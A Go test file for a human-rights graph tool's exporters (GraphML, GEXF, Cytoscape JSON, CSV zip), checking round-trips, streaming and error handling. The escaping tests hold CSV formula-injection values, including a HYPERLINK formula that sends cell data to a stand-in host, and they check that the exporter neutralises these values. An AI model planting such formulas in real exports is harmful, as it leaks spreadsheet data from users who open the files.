package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/rightsgraph/rightsgraph"
	"github.com/rightsgraph/rightsgraph/export"
	"github.com/rightsgraph/rightsgraph/inmem"
	"github.com/rightsgraph/rightsgraph/seed"
	"github.com/rightsgraph/rightsgraph/synth"
)

// Ids of the bundled report that the tests know.
const (
	levID = "person/lev-ponomarev"
	fhrID = "organisation/for-human-rights"
)

var leadsID = rightsgraph.RelationID(levID, rightsgraph.RelLeads, fhrID)

// node and edge are an entity and a relation as an export states them.
type node struct {
	ID, Kind, Name string
	Aliases        []string
	Description    string
}

type edge struct {
	ID, Source, Target, Type, Role, At string
	Evidence                           []export.EvidenceJSON
}

// graph is an export read back, in the order of the file.
type graph struct {
	Nodes []node
	Edges []edge
}

// format is a writer of one file and a Go reader of what it writes.
type format struct {
	name  string
	write func(context.Context, io.Writer, export.Source) error
	read  func([]byte) (*graph, error)
}

// formats lists every writer of one file: those of export.Formats, and the
// zip of the two CSV files.
var formats = []format{
	{"graphml", export.GraphML, readGraphML},
	{"gexf", export.GEXF, readGEXF},
	{"cyjs", export.CytoscapeJSON, readCyJS},
	{"csvzip", export.CSVZip, readCSVZip},
}

// csvBoth writes both CSV files to one writer, for tests that only count
// bytes.
var csvBoth = format{name: "csv", write: func(ctx context.Context, w io.Writer, s export.Source) error {
	return export.CSV(ctx, w, w, s)
}}

// MustSeed returns a store holding the bundled report.
func MustSeed(tb testing.TB) *inmem.Store {
	tb.Helper()
	s := inmem.New()
	if _, err := seed.LoadFS(tb.Context(), s, seed.Bundled(), seed.Options{}); err != nil {
		tb.Fatal(err)
	}
	return s
}

// MustSynth returns a store holding a synthetic graph.
func MustSynth(tb testing.TB, o synth.Options) *inmem.Store {
	tb.Helper()
	s := inmem.New()
	for _, g := range synth.Generate(o) {
		if err := s.LoadReport(context.Background(), g); err != nil {
			tb.Fatal(err)
		}
	}
	return s
}

// MustExport writes src in format f.
func MustExport(tb testing.TB, f format, src export.Source) []byte {
	tb.Helper()
	var buf bytes.Buffer
	if err := f.write(tb.Context(), &buf, src); err != nil {
		tb.Fatalf("%s: %v", f.name, err)
	}
	return buf.Bytes()
}

// want is what every export of src must say.
func want(tb testing.TB, src export.Source) *graph {
	tb.Helper()
	g := &graph{}
	err := src.EachEntity(tb.Context(), func(e *rightsgraph.Entity) error {
		g.Nodes = append(g.Nodes, node{ID: e.ID, Kind: string(e.Kind), Name: e.Name,
			Aliases: append([]string{}, e.Aliases...), Description: e.Description})
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
	err = src.EachRelation(tb.Context(), func(r *rightsgraph.Relation) error {
		evs := []export.EvidenceJSON{}
		for _, ev := range r.Evidence {
			evs = append(evs, export.EvidenceJSON{Report: ev.Report, Quote: ev.Quote, Start: ev.Start, End: ev.End})
		}
		g.Edges = append(g.Edges, edge{ID: r.ID, Source: r.From, Target: r.To, Type: string(r.Type),
			Role: r.Role, At: r.At, Evidence: evs})
		return nil
	})
	if err != nil {
		tb.Fatal(err)
	}
	return g
}

// checkGraph reports the first difference between two graphs.
func checkGraph(tb testing.TB, got, want *graph) {
	tb.Helper()
	if len(got.Nodes) != len(want.Nodes) || len(got.Edges) != len(want.Edges) {
		tb.Fatalf("got %d nodes, %d edges; want %d, %d", len(got.Nodes), len(got.Edges), len(want.Nodes), len(want.Edges))
	}
	for i := range got.Nodes {
		if !reflect.DeepEqual(got.Nodes[i], want.Nodes[i]) {
			tb.Fatalf("node %d:\n got %+v\nwant %+v", i, got.Nodes[i], want.Nodes[i])
		}
	}
	for i := range got.Edges {
		if !reflect.DeepEqual(got.Edges[i], want.Edges[i]) {
			tb.Fatalf("edge %d:\n got %+v\nwant %+v", i, got.Edges[i], want.Edges[i])
		}
	}
}

func TestFormatsRegistered(t *testing.T) {
	tested := map[string]bool{}
	for _, f := range formats {
		tested[f.name] = true
	}
	for name := range export.Formats {
		if !tested[name] {
			t.Errorf("format %q has no round-trip test", name)
		}
		if export.ContentTypes[name] == "" {
			t.Errorf("format %q has no content type", name)
		}
	}
	if got := export.ContentTypes["csv"]; got != "application/zip" {
		t.Errorf(`ContentTypes["csv"] = %q, want the zip of CSVZip`, got)
	}
}

// TestRoundTrip exports the bundled report in every format and reads every
// node and edge back.
func TestRoundTrip(t *testing.T) {
	store := MustSeed(t)
	st, err := store.Stats(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	lev, err := store.Entity(t.Context(), levID)
	if err != nil {
		t.Fatal(err)
	}
	leads := mustRelation(t, store, leadsID)
	wantGraph := want(t, store)
	for _, f := range formats {
		t.Run(f.name, func(t *testing.T) {
			got, err := f.read(MustExport(t, f, store))
			if err != nil {
				t.Fatal(err)
			}
			if len(got.Nodes) != st.Nodes || len(got.Edges) != st.Relationships {
				t.Fatalf("read %d nodes, %d edges; Stats says %d, %d", len(got.Nodes), len(got.Edges), st.Nodes, st.Relationships)
			}
			checkGraph(t, got, wantGraph)

			// The known facts, spelled out, in case the seed changes.
			i := slices.IndexFunc(got.Nodes, func(n node) bool { return n.ID == levID })
			if i < 0 || got.Nodes[i].Kind != "PERSON" || got.Nodes[i].Name != lev.Name {
				t.Errorf("node %s not read back as a PERSON named %q", levID, lev.Name)
			}
			i = slices.IndexFunc(got.Edges, func(e edge) bool { return e.ID == leadsID })
			if i < 0 {
				t.Fatalf("edge %s missing", leadsID)
			}
			e := got.Edges[i]
			if e.Type != "LEADS" || e.Role != "head" || e.Source != levID || e.Target != fhrID {
				t.Errorf("edge %s read back as %+v", leadsID, e)
			}
			if len(e.Evidence) != 1 || e.Evidence[0].Quote != leads.Evidence[0].Quote ||
				e.Evidence[0].Start != leads.Evidence[0].Start || e.Evidence[0].Report != leads.Evidence[0].Report {
				t.Errorf("evidence of %s read back as %+v, want %+v", leadsID, e.Evidence, leads.Evidence)
			}
		})
	}
}

func mustRelation(tb testing.TB, s rightsgraph.Store, id string) *rightsgraph.Relation {
	tb.Helper()
	rels, err := s.RelationsByEntityIDs(tb.Context(), []string{strings.Split(id, "|")[0]})
	if err != nil {
		tb.Fatal(err)
	}
	for _, rels := range rels {
		for _, r := range rels {
			if r.ID == id {
				return r
			}
		}
	}
	tb.Fatalf("relation %s not in the store", id)
	return nil
}

// TestSubgraph exports a part of the graph: two nodes and the edge between.
func TestSubgraph(t *testing.T) {
	store := MustSeed(t)
	ents, err := store.EntitiesByIDs(t.Context(), []string{levID, fhrID})
	if err != nil {
		t.Fatal(err)
	}
	sub := &rightsgraph.Subgraph{
		Nodes: []*rightsgraph.Entity{ents[fhrID], ents[levID]}, // out of order on purpose
		Edges: []*rightsgraph.Relation{mustRelation(t, store, leadsID)},
	}
	for _, f := range formats {
		t.Run(f.name, func(t *testing.T) {
			got, err := f.read(MustExport(t, f, sub))
			if err != nil {
				t.Fatal(err)
			}
			if len(got.Nodes) != 2 || len(got.Edges) != 1 {
				t.Fatalf("read %d nodes, %d edges; want 2, 1", len(got.Nodes), len(got.Edges))
			}
			checkGraph(t, got, want(t, sub))
		})
	}
}

// TestAwkwardText round-trips text that needs escaping in each format:
// quotes, markup, separators, newlines and tabs, and fields left empty.
// (A CRLF inside a CSV cell would come back as LF: encoding/csv's reader
// folds it, so only the JSON of evidence carries one here.)
func TestAwkwardText(t *testing.T) {
	sub := &rightsgraph.Subgraph{
		Nodes: []*rightsgraph.Entity{
			{ID: "organisation/a", Kind: rightsgraph.KindOrganisation, Name: `"Memorial" & <Co>, Ltd.`,
				Aliases:     []string{"=SUM(A1)", "Мемориал", `back\slash`},
				Description: "line one\nline two\n\ttabbed, \"quoted\", <b>bold</b>; done"},
			{ID: "person/b", Kind: rightsgraph.KindPerson, Name: "Ünïcödé 人"},
			{ID: "person/c", Kind: rightsgraph.KindPerson, Name: `=HYPERLINK("http://x.example/?"&A1)`,
				Aliases: []string{"Alpha; Beta", "+1", "-1", "@x", "\tTab", "'quoted", "''twice"}, Description: "@SUM(A1:A9)"},
		},
		Edges: []*rightsgraph.Relation{
			{ID: "person/c|MEMBER_OF|organisation/a", Type: rightsgraph.RelMemberOf, From: "person/c", To: "organisation/a", Role: "=1+1",
				Evidence: []rightsgraph.Evidence{{Report: "report/r", Quote: "-x", Start: 0, End: 2}}},
			{ID: "person/b|MEMBER_OF|organisation/a", Type: rightsgraph.RelMemberOf, From: "person/b", To: "organisation/a",
				Evidence: []rightsgraph.Evidence{
					{Report: "report/r", Quote: "she said: \"join <us>\" &\r\nstay", Start: 3, End: 30},
					{Report: "report/s", Quote: "a,b;c\td", Start: 0, End: 7},
				}},
		},
	}
	for _, f := range formats {
		t.Run(f.name, func(t *testing.T) {
			got, err := f.read(MustExport(t, f, sub))
			if err != nil {
				t.Fatal(err)
			}
			checkGraph(t, got, want(t, sub))
		})
	}
}

// TestCSVFormulas checks that no cell of the CSV files starts what a
// spreadsheet would run as a formula, and that aliases are a JSON array
// (TestAwkwardText reads them back).
func TestCSVFormulas(t *testing.T) {
	sub := &rightsgraph.Subgraph{
		Nodes: []*rightsgraph.Entity{{ID: "person/c", Kind: rightsgraph.KindPerson, Name: "=1+1",
			Aliases: []string{"Alpha; Beta", "@x", "\rReturn"}, Description: "-2"}},
	}
	var nodes, edges bytes.Buffer
	if err := export.CSV(t.Context(), &nodes, &edges, sub); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&nodes).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"person/c", "'=1+1", "PERSON", `["Alpha; Beta","@x","\rReturn"]`, "'-2"}
	if len(rows) != 2 || !slices.Equal(rows[1], want) {
		t.Errorf("nodes.csv rows %q, want %q", rows, want)
	}
}

// TestCSV checks that the two files of CSV are those of CSVZip.
func TestCSV(t *testing.T) {
	store := MustSeed(t)
	var nodes, edges bytes.Buffer
	if err := export.CSV(t.Context(), &nodes, &edges, store); err != nil {
		t.Fatal(err)
	}
	var zipped bytes.Buffer
	if err := export.CSVZip(t.Context(), &zipped, store); err != nil {
		t.Fatal(err)
	}
	files, err := unzip(zipped.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(files["nodes.csv"], nodes.Bytes()) || !bytes.Equal(files["edges.csv"], edges.Bytes()) {
		t.Error("CSV and CSVZip wrote different files")
	}
	for name, b := range map[string][]byte{"nodes": nodes.Bytes(), "edges": edges.Bytes()} {
		first, _, _ := bytes.Cut(b, []byte("\n"))
		t.Logf("%s.csv header: %s", name, first)
	}
}

// TestStreaming exports a synthetic graph of 20,000 relations in every
// format and checks that most of the output was written before the source
// handed out its last relation: the writers do not build the document first.
func TestStreaming(t *testing.T) {
	store := MustSynth(t, synth.Options{Reports: 1, Entities: 5000, Relations: 20000, Seed: 1})
	st, err := store.Stats(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	all := append(slices.Clone(formats), csvBoth)
	for _, f := range all {
		t.Run(f.name, func(t *testing.T) {
			out := &countingWriter{w: io.Discard}
			p := &probe{Source: store, out: out, total: st.Relationships}
			if err := f.write(t.Context(), out, p); err != nil {
				t.Fatal(err)
			}
			if p.seen != st.Relationships {
				t.Fatalf("source handed out %d relations, want %d", p.seen, st.Relationships)
			}
			if p.writtenAtLast < out.n*9/10 {
				t.Errorf("only %d of %d bytes written before the last relation was read", p.writtenAtLast, out.n)
			}
		})
	}
}

// probe is a source that records how much output was written when it
// handed out its last relation.
type probe struct {
	export.Source
	out           *countingWriter
	total, seen   int
	writtenAtLast int64
}

func (p *probe) EachRelation(ctx context.Context, fn func(*rightsgraph.Relation) error) error {
	return p.Source.EachRelation(ctx, func(r *rightsgraph.Relation) error {
		if p.seen++; p.seen == p.total {
			p.writtenAtLast = p.out.n
		}
		return fn(r)
	})
}

type countingWriter struct {
	w io.Writer
	n int64
}

func (c *countingWriter) Write(b []byte) (int, error) {
	n, err := c.w.Write(b)
	c.n += int64(n)
	return n, err
}

// TestErrors checks that every writer stops with the error of its context
// or of its output.
func TestErrors(t *testing.T) {
	store := MustSynth(t, synth.Options{Reports: 1, Entities: 500, Relations: 2000, Seed: 1})
	errDisk := errors.New("disk full")
	for _, f := range formats {
		t.Run(f.name+"/canceled", func(t *testing.T) {
			ctx, cancel := context.WithCancel(t.Context())
			cancel()
			if err := f.write(ctx, io.Discard, store); !errors.Is(err, context.Canceled) {
				t.Errorf("err = %v, want context.Canceled", err)
			}
		})
		t.Run(f.name+"/write-error", func(t *testing.T) {
			p := &probe{Source: store, out: &countingWriter{}, total: -1}
			if err := f.write(t.Context(), &failingWriter{after: 10_000, err: errDisk}, p); !errors.Is(err, errDisk) {
				t.Errorf("err = %v, want %v", err, errDisk)
			}
			if p.seen >= 2000 {
				t.Errorf("went on reading all %d relations after the output failed", p.seen)
			}
		})
	}
}

type failingWriter struct {
	after int
	err   error
}

func (w *failingWriter) Write(b []byte) (int, error) {
	if w.after -= len(b); w.after < 0 {
		return 0, w.err
	}
	return len(b), nil
}

// bigGraph is the benchmarks' synthetic graph, built once.
var bigGraph = sync.OnceValue(func() *inmem.Store {
	s := inmem.New()
	for _, g := range synth.Generate(synth.Options{Reports: 10, Entities: 100_000, Relations: 500_000, Seed: 1}) {
		if err := s.LoadReport(context.Background(), g); err != nil {
			panic(err)
		}
	}
	return s
})

// BenchmarkExport writes the bundled report and a synthetic graph of
// 100,000 entities and 500,000 relations in every format; out-B is the
// size of the output, and iterate the cost of reading the source alone.
func BenchmarkExport(b *testing.B) {
	all := append(slices.Clone(formats), csvBoth)
	for _, g := range []struct {
		name string
		load func(testing.TB) export.Source
	}{
		{"seed", func(tb testing.TB) export.Source { return MustSeed(tb) }},
		{"synth-500k", func(testing.TB) export.Source { return bigGraph() }},
	} {
		b.Run(g.name, func(b *testing.B) {
			src := g.load(b)
			// The source's own cost, which every format includes.
			b.Run("iterate", func(b *testing.B) {
				b.ReportAllocs()
				for b.Loop() {
					err := errors.Join(
						src.EachEntity(b.Context(), func(*rightsgraph.Entity) error { return nil }),
						src.EachRelation(b.Context(), func(*rightsgraph.Relation) error { return nil }))
					if err != nil {
						b.Fatal(err)
					}
				}
			})
			for _, f := range all {
				b.Run(f.name, func(b *testing.B) {
					b.ReportAllocs()
					var size int64
					for b.Loop() {
						out := &countingWriter{w: io.Discard}
						if err := f.write(b.Context(), out, src); err != nil {
							b.Fatal(err)
						}
						size = out.n
					}
					b.ReportMetric(float64(size), "out-B")
				})
			}
		})
	}
}

// The Go readers. Each checks what its format promises beyond the
// attributes (namespaces, labels, directed edges) and returns the graph.

type xmlData struct {
	Key   string `xml:"key,attr"`
	Value string `xml:",chardata"`
}

func readGraphML(b []byte) (*graph, error) {
	var doc struct {
		XMLName xml.Name `xml:"http://graphml.graphdrawing.org/xmlns graphml"`
		Keys    []struct {
			ID   string `xml:"id,attr"`
			For  string `xml:"for,attr"`
			Name string `xml:"attr.name,attr"`
		} `xml:"key"`
		Graph struct {
			EdgeDefault string `xml:"edgedefault,attr"`
			Nodes       []struct {
				ID   string    `xml:"id,attr"`
				Data []xmlData `xml:"data"`
			} `xml:"node"`
			Edges []struct {
				ID     string    `xml:"id,attr"`
				Source string    `xml:"source,attr"`
				Target string    `xml:"target,attr"`
				Data   []xmlData `xml:"data"`
			} `xml:"edge"`
		} `xml:"graph"`
	}
	if err := xml.Unmarshal(b, &doc); err != nil {
		return nil, err
	}
	if doc.Graph.EdgeDefault != "directed" {
		return nil, fmt.Errorf("edgedefault %q", doc.Graph.EdgeDefault)
	}
	names := map[string]string{}
	for _, k := range doc.Keys {
		names[k.For+"/"+k.ID] = k.Name
	}
	attrs := func(class string, data []xmlData) map[string]string {
		m := map[string]string{}
		for _, d := range data {
			m[names[class+"/"+d.Key]] = d.Value
		}
		return m
	}
	g := &graph{}
	for _, n := range doc.Graph.Nodes {
		a := attrs("node", n.Data)
		nd, err := nodeFrom(n.ID, a["name"], a)
		if err != nil {
			return nil, err
		}
		g.Nodes = append(g.Nodes, nd)
	}
	for _, e := range doc.Graph.Edges {
		ed, err := edgeFrom(e.ID, e.Source, e.Target, attrs("edge", e.Data))
		if err != nil {
			return nil, err
		}
		g.Edges = append(g.Edges, ed)
	}
	return g, nil
}

type gexfAttValue struct {
	For   string `xml:"for,attr"`
	Value string `xml:"value,attr"`
}

func readGEXF(b []byte) (*graph, error) {
	var doc struct {
		XMLName xml.Name `xml:"http://gexf.net/1.3 gexf"`
		Version string   `xml:"version,attr"`
		Graph   struct {
			DefaultEdgeType string `xml:"defaultedgetype,attr"`
			Attributes      []struct {
				Class     string `xml:"class,attr"`
				Attribute []struct {
					ID    string `xml:"id,attr"`
					Title string `xml:"title,attr"`
					Type  string `xml:"type,attr"`
				} `xml:"attribute"`
			} `xml:"attributes"`
			Nodes []struct {
				ID     string         `xml:"id,attr"`
				Label  string         `xml:"label,attr"`
				Values []gexfAttValue `xml:"attvalues>attvalue"`
			} `xml:"nodes>node"`
			Edges []struct {
				ID     string         `xml:"id,attr"`
				Source string         `xml:"source,attr"`
				Target string         `xml:"target,attr"`
				Label  string         `xml:"label,attr"`
				Values []gexfAttValue `xml:"attvalues>attvalue"`
			} `xml:"edges>edge"`
		} `xml:"graph"`
	}
	if err := xml.Unmarshal(b, &doc); err != nil {
		return nil, err
	}
	if doc.Version != "1.3" || doc.Graph.DefaultEdgeType != "directed" {
		return nil, fmt.Errorf("version %q, defaultedgetype %q", doc.Version, doc.Graph.DefaultEdgeType)
	}
	titles := map[string]string{}
	for _, as := range doc.Graph.Attributes {
		for _, a := range as.Attribute {
			if a.Type != "string" {
				return nil, fmt.Errorf("attribute %s of type %q", a.ID, a.Type)
			}
			titles[as.Class+"/"+a.ID] = a.Title
		}
	}
	attrs := func(class string, vs []gexfAttValue) map[string]string {
		m := map[string]string{}
		for _, v := range vs {
			m[titles[class+"/"+v.For]] = v.Value
		}
		return m
	}
	g := &graph{}
	for _, n := range doc.Graph.Nodes {
		nd, err := nodeFrom(n.ID, n.Label, attrs("node", n.Values))
		if err != nil {
			return nil, err
		}
		g.Nodes = append(g.Nodes, nd)
	}
	for _, e := range doc.Graph.Edges {
		ed, err := edgeFrom(e.ID, e.Source, e.Target, attrs("edge", e.Values))
		if err != nil {
			return nil, err
		}
		if e.Label != ed.Type {
			return nil, fmt.Errorf("edge %s: label %q, type %q", e.ID, e.Label, ed.Type)
		}
		g.Edges = append(g.Edges, ed)
	}
	return g, nil
}

// nodeFrom and edgeFrom read the attributes of the XML formats, where
// aliases and evidence are JSON strings.
func nodeFrom(id, name string, a map[string]string) (node, error) {
	n := node{ID: id, Kind: a["kind"], Name: name, Aliases: []string{}, Description: a["description"]}
	if s, ok := a["aliases"]; ok {
		if err := json.Unmarshal([]byte(s), &n.Aliases); err != nil {
			return n, fmt.Errorf("node %s: aliases: %w", id, err)
		}
	}
	return n, nil
}

func edgeFrom(id, source, target string, a map[string]string) (edge, error) {
	e := edge{ID: id, Source: source, Target: target, Type: a["type"], Role: a["role"], At: a["at"]}
	if err := json.Unmarshal([]byte(a["evidence"]), &e.Evidence); err != nil {
		return e, fmt.Errorf("edge %s: evidence: %w", id, err)
	}
	return e, nil
}

func readCyJS(b []byte) (*graph, error) {
	var doc struct {
		Elements struct {
			Nodes []struct {
				Data struct {
					ID, Label, Kind, Name string
					Aliases               []string
					Description           string
				} `json:"data"`
			} `json:"nodes"`
			Edges []struct {
				Data struct {
					ID, Source, Target, Type, Label, Role, At string
					Evidence                                  []export.EvidenceJSON
				} `json:"data"`
			} `json:"edges"`
		} `json:"elements"`
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&doc); err != nil {
		return nil, err
	}
	g := &graph{}
	for _, n := range doc.Elements.Nodes {
		d := n.Data
		if d.Label != d.Name || d.Aliases == nil {
			return nil, fmt.Errorf("node %s: label %q, name %q, aliases %v", d.ID, d.Label, d.Name, d.Aliases)
		}
		g.Nodes = append(g.Nodes, node{ID: d.ID, Kind: d.Kind, Name: d.Name, Aliases: d.Aliases, Description: d.Description})
	}
	for _, e := range doc.Elements.Edges {
		d := e.Data
		if d.Label != d.Type || d.Evidence == nil {
			return nil, fmt.Errorf("edge %s: label %q, type %q, evidence %v", d.ID, d.Label, d.Type, d.Evidence)
		}
		g.Edges = append(g.Edges, edge{ID: d.ID, Source: d.Source, Target: d.Target, Type: d.Type, Role: d.Role, At: d.At, Evidence: d.Evidence})
	}
	return g, nil
}

func unzip(b []byte) (map[string][]byte, error) {
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		return nil, err
	}
	files := map[string][]byte{}
	for _, f := range zr.File {
		r, err := f.Open()
		if err != nil {
			return nil, err
		}
		files[f.Name], err = io.ReadAll(r)
		r.Close()
		if err != nil {
			return nil, err
		}
	}
	if names := slices.Sorted(maps.Keys(files)); !slices.Equal(names, []string{"edges.csv", "nodes.csv"}) {
		return nil, fmt.Errorf("zip holds %v", names)
	}
	return files, nil
}

// readCSV reads a CSV file with a header into one map per row.
func readCSV(b []byte, header ...string) ([]map[string]string, error) {
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		return nil, err
	}
	if len(rows) == 0 || !slices.Equal(rows[0], header) {
		return nil, fmt.Errorf("header %v, want %v", rows[:min(1, len(rows))], header)
	}
	var out []map[string]string
	for _, row := range rows[1:] {
		m := map[string]string{}
		for i, h := range header {
			m[h] = strings.TrimPrefix(row[i], "'") // a cell that could be a formula starts with '
		}
		out = append(out, m)
	}
	return out, nil
}

func readCSVZip(b []byte) (*graph, error) {
	files, err := unzip(b)
	if err != nil {
		return nil, err
	}
	nodes, err := readCSV(files["nodes.csv"], "Id", "Label", "kind", "aliases", "description")
	if err != nil {
		return nil, fmt.Errorf("nodes.csv: %w", err)
	}
	edges, err := readCSV(files["edges.csv"], "Source", "Target", "Type", "Id", "Label", "relation_type", "role", "at", "evidence")
	if err != nil {
		return nil, fmt.Errorf("edges.csv: %w", err)
	}
	g := &graph{}
	for _, n := range nodes {
		var aliases []string
		if err := json.Unmarshal([]byte(n["aliases"]), &aliases); err != nil {
			return nil, fmt.Errorf("node %s: aliases: %w", n["Id"], err)
		}
		g.Nodes = append(g.Nodes, node{ID: n["Id"], Kind: n["kind"], Name: n["Label"], Aliases: aliases, Description: n["description"]})
	}
	for _, e := range edges {
		if e["Type"] != "Directed" || e["Label"] != e["relation_type"] {
			return nil, fmt.Errorf("edge %s: Type %q, Label %q, relation_type %q", e["Id"], e["Type"], e["Label"], e["relation_type"])
		}
		e["type"] = e["relation_type"]
		ed, err := edgeFrom(e["Id"], e["Source"], e["Target"], e)
		if err != nil {
			return nil, err
		}
		g.Edges = append(g.Edges, ed)
	}
	return g, nil
}
